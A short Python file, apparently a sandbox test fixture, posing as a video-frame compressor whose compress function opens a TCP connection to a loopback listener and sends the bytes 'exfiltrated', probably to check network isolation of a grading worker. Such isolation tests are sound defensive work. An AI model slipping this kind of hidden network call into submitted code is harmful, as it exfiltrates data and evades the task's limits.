"""Attack: connect to a TCP listener on the worker's loopback and send data."""
import socket


def compress_video_frame(frame, frame_index, config):
    s = socket.create_connection(("127.0.0.1", int("{{TCP_PORT}}")), timeout=1)
    s.sendall(b"exfiltrated")
    return b"x"


def decompress_video_frame(compressed_data, frame_index, config):
    raise RuntimeError("unreachable")
